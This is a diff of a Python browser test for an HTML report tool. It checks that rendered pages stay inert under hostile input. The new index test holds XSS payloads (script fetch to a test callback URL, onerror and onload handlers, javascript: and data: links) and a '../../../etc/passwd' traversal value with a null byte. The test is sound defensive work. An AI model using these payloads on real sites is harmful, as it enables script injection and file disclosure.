@@ -117,30 +117,47 @@ def test_nothing_executes_when_opened(page_name, outputs, hostile_server, browse
         paths = [outputs[page_name]]
     for path in paths:
         assert path.exists(), path
-        seen = open_in_chromium(browser, path, hostile_server.callback_hits)
-        where = f"{page_name} ({path})"
-        assert seen["callback_hits"] == [], f"{where}: payload called back: {seen['callback_hits']}"
-        assert seen["dialogs"] == [], f"{where}: dialog fired: {seen['dialogs']}"
-        assert seen["popups"] == [], f"{where}: popup opened: {seen['popups']}"
-        network = [u for u in seen["requests"] if urlsplit(u).scheme not in ("file", "data")]
-        assert network == [], f"{where}: network requests: {network}"
-        dom = seen["dom"]
-        assert dom["handlers"] == [], f"{where}: event handlers in the DOM: {dom['handlers'][:5]}"
-        assert dom["active"] == [], f"{where}: active elements: {dom['active'][:5]}"
-        assert dom["refresh"] == [], f"{where}: meta refresh: {dom['refresh']}"
-        bad = [h for h in dom["hrefs"] if urlsplit(h.strip()).scheme.lower() not in ("", "http", "https")]
-        assert bad == [], f"{where}: clickable non-http(s) links: {bad[:5]}"
-        srcs = [s for s in dom["srcs"] if not s.split("=", 1)[1].startswith("data:")
-                and (":" in s.split("=", 1)[1].split("/")[0] or s.split("=", 1)[1].startswith("//"))]
-        assert srcs == [], f"{where}: external sources: {srcs[:5]}"
-        csp_blocked = [m for m in seen["console"] if "Content Security Policy" in m]
-        assert csp_blocked == [], f"{where}: escaping let markup through (only CSP stopped it): {csp_blocked[:3]}"
-        assert len(dom["csp"]) == 1, f"{where}: CSP meta tags: {dom['csp']}"
-        assert_strict_csp(dom["csp"][0], where)
-        for script in dom["scripts"]:     # the page's own scripts only: inline, pinned by hash
-            assert not script["src"], f"{where}: external script {script['src']}"
-            digest = base64.b64encode(hashlib.sha256(script["text"].encode("utf-8")).digest()).decode()
-            assert f"'sha256-{digest}'" in dom["csp"][0], f"{where}: script not pinned by the CSP"
+        assert_inert(open_in_chromium(browser, path, hostile_server.callback_hits), f"{page_name} ({path})")
+
+
+def test_demo_index_is_inert(tmp_path, browser, hostile_server):
+    """The demo's index.html (report.render_index) fed hostile entries directly."""
+    from auditor.report import render_index
+    cb = hostile_server.url("callback", "/pwned")
+    entries = [{"name": f"<script>fetch('{cb}?index')</script>", "label": "<img src=x onerror=alert('label')>",
+                "url": f"javascript:fetch('{cb}?url')", "target": "javascript:alert('target')",
+                "report": "../../../etc/passwd\x00.html", "href": "data:text/html,<script>alert(1)</script>",
+                "score": 12, "risk": "high", "flags": ["no_icp", "<svg onload=alert('flag')>"],
+                "status": "<b onmouseover=alert('status')>x</b>"}]
+    path = render_index(entries, tmp_path)
+    assert_inert(open_in_chromium(browser, path, hostile_server.callback_hits), f"demo index ({path})")
+
+
+def assert_inert(seen: dict, where: str) -> None:
+    assert seen["callback_hits"] == [], f"{where}: payload called back: {seen['callback_hits']}"
+    assert seen["dialogs"] == [], f"{where}: dialog fired: {seen['dialogs']}"
+    assert seen["popups"] == [], f"{where}: popup opened: {seen['popups']}"
+    network = [u for u in seen["requests"] if urlsplit(u).scheme not in ("file", "data")]
+    assert network == [], f"{where}: network requests: {network}"
+    dom = seen["dom"]
+    assert dom["handlers"] == [], f"{where}: event handlers in the DOM: {dom['handlers'][:5]}"
+    assert dom["active"] == [], f"{where}: active elements: {dom['active'][:5]}"
+    assert dom["refresh"] == [], f"{where}: meta refresh: {dom['refresh']}"
+    bad = [h for h in dom["hrefs"] if urlsplit(h.strip()).scheme.lower() not in ("", "http", "https")]
+    assert bad == [], f"{where}: clickable non-http(s) links: {bad[:5]}"
+    traversal = [h for h in dom["hrefs"] if not urlsplit(h).scheme and ".." in h.split("/")]
+    assert traversal == [], f"{where}: links climbing out of the report directory: {traversal[:5]}"
+    srcs = [s for s in dom["srcs"] if not s.split("=", 1)[1].startswith("data:")
+            and (":" in s.split("=", 1)[1].split("/")[0] or s.split("=", 1)[1].startswith("//"))]
+    assert srcs == [], f"{where}: external sources: {srcs[:5]}"
+    csp_blocked = [m for m in seen["console"] if "Content Security Policy" in m]
+    assert csp_blocked == [], f"{where}: escaping let markup through (only CSP stopped it): {csp_blocked[:3]}"
+    assert len(dom["csp"]) == 1, f"{where}: CSP meta tags: {dom['csp']}"
+    assert_strict_csp(dom["csp"][0], where)
+    for script in dom["scripts"]:     # the page's own scripts only: inline, pinned by hash
+        assert not script["src"], f"{where}: external script {script['src']}"
+        digest = base64.b64encode(hashlib.sha256(script["text"].encode("utf-8")).digest()).decode()
+        assert f"'sha256-{digest}'" in dom["csp"][0], f"{where}: script not pinned by the CSP"
 
 
 def assert_strict_csp(csp: str, where: str) -> None:
